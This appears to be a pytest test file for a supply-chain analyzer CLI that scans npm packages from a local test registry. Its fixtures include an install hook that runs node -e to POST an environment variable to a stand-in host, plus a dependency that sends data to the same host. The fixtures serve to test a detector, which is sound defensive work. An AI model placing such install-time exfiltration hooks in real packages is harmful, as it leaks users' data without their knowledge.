"""Does the command do by a package's name what it does with its files? The registry is a server of this process, npm is not on the PATH."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from analyzer.cli import ExitCode
from tests.intake.registry.loopback import Server, package, serving, sri
from tests.intake.tarball import CLI_TEXT

ROOT = Path(__file__).parents[1]
SEND = b"exports.send = (value) => fetch('https://t.example/v1', {method: 'POST', body: value});"
USE = b"const {send} = require('sender'); send(Intl.DateTimeFormat().resolvedOptions().timeZone);"
INLINE = "fetch('https://t.example/v1', {method: 'POST', body: process.env.TZ})"


@pytest.fixture
def registry() -> Iterator[Server]:
    with serving() as server:
        yield server


def run(server: Server, folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """The command as a user without npm runs it."""
    environment = {
        "PATH": str(folder),
        "HOME": str(folder),
        "PYTHONPATH": str(ROOT),
        "BUNDLETAP_CACHE_DIR": str(folder / "cache"),
        "npm_config_registry": server.url,
        "npm_config_fetch_retries": "0",
    }
    command = [sys.executable, "-m", "analyzer", "scan", *arguments]
    return subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False, timeout=120)


def report(server: Server, folder: Path, *arguments: str, code: ExitCode = ExitCode.CLEAN) -> dict[str, Any]:
    done = run(server, folder, *arguments, "--format", "json")
    assert done.returncode == code, done.stderr
    value: dict[str, Any] = json.loads(done.stdout)
    return value


def places(value: dict[str, Any]) -> set[tuple[str, str]]:
    return {(finding["source"]["file"], finding["sink"]["file"]) for finding in value["findings"]}


def test_code_of_install_scripts_is_scanned(registry: Server, tmp_path: Path) -> None:
    data = registry.publish("tool", "1.0.0", scripts={"postinstall": f"node -e {shlex.quote(INLINE)} || exit 0"})
    value = report(registry, tmp_path, "tool@1.0.0")
    assert value["target"] == {"kind": "npm-package", "name": "tool", "version": "1.0.0", "integrity": sri(data), "files": 2}
    assert ("package.json#postinstall", "package.json#postinstall") in places(value)
    assert value["package"]["install_scripts"][0]["files"] == ["package.json#postinstall"]
    assert "runs on installation:" in run(registry, tmp_path, "tool@1.0.0", "--format", "text").stdout


def test_a_flow_into_a_dependency(registry: Server, tmp_path: Path) -> None:
    registry.publish("sender", "1.0.0", files={"index.js": SEND})
    registry.publish("tool", "1.0.0", files={"index.js": USE}, dependencies={"sender": "^1.0.0"})
    without = report(registry, tmp_path, "tool")
    assert without["coverage"]["dependencies_not_scanned"] == ["sender@^1.0.0"]
    assert not places(without)
    value = report(registry, tmp_path, "tool", "--deps", "prod")
    assert value["coverage"]["dependencies_not_scanned"] == []
    assert places(value) == {("index.js", "node_modules/sender/index.js")}
    listed = run(registry, tmp_path, "tool", "--format", "text", "--deps", "list").stdout
    assert "dependencies:\n  sender@^1.0.0  not scanned\n" in listed
    assert "1 dependency not scanned (--deps prod" in listed
    registry.asked.clear()
    assert report(registry, tmp_path, "tool", "--deps", "prod", "--offline") == value
    assert registry.asked == []


def test_a_dependency_that_is_gone_makes_the_report_incomplete(registry: Server, tmp_path: Path) -> None:
    registry.publish("tool", "1.0.0", files={"index.js": USE}, dependencies={"sender": "^1.0.0"})
    value = report(registry, tmp_path, "tool", "--deps", "prod", code=ExitCode.INCOMPLETE)
    assert value["complete"] is False
    assert value["coverage"]["gaps"][0]["file"] == "node_modules/sender"


def test_a_swapped_archive_ends_the_run(registry: Server, tmp_path: Path) -> None:
    registry.publish("tool", "1.0.0")
    registry.say("/tool/-/tool-1.0.0.tgz", package("tool", "1.0.0", files={"index.js": b"evil()"}))
    done = run(registry, tmp_path, "tool")
    assert done.returncode == ExitCode.USAGE
    assert done.stdout == ""
    assert "sha512 digest is not the one that the registry states" in done.stderr
    assert "nothing of it was read" in done.stderr


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("gone",), "the registry has no package of this name"),
        (("tool@9",), "no such version or tag"),
        (("tool", "--offline"), "the cache does not have the package"),
        (("x.tgz",), "the compressed data ends too early"),
    ],
)
def test_errors_have_their_exit_code(registry: Server, tmp_path: Path, arguments: tuple[str, ...], words: str) -> None:
    registry.publish("tool", "1.0.0")
    (tmp_path / "x.tgz").write_bytes(b"\x1f\x8b\x08\x00 no archive")
    done = run(registry, tmp_path, *arguments)
    assert done.returncode == ExitCode.USAGE
    assert done.stdout == ""
    assert words in done.stderr


def test_no_cache_keeps_nothing(registry: Server, tmp_path: Path) -> None:
    registry.publish("tool", "1.0.0", files={"index.js": CLI_TEXT})
    report(registry, tmp_path, "tool", "--no-cache")
    assert not (tmp_path / "cache").exists()
    report(registry, tmp_path, "tool")
    assert (tmp_path / "cache" / "content").is_dir()
